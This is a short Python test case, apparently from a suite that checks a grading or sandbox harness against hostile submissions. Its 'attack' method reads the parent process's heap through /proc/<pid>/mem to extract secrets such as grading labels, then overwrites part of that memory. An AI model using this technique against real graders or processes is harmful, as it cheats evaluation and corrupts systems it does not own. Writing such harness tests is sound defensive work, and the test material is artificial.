"""T66. Writes into the memory of the process that it was forked from.

expected: wrong or crashed; process wrong or crashed or harness_error
gains: process parent-hurt, label-read
way: twice
"""
import os
from kit import Empty, ancestor, secrets_in
class Solution(Empty):
    def attack(self):
        with open(f"/proc/{ancestor()}/maps") as maps, open(f"/proc/{ancestor()}/mem", "r+b", 0) as memory:
            heap = next(line for line in maps if "[heap]" in line)
            begin, end = (int(part, 16) for part in heap.split()[0].split("-"))
            memory.seek(begin)
            secrets_in(memory.read(end - begin))
            memory.seek(end - 8)
            memory.write(bytes(8))
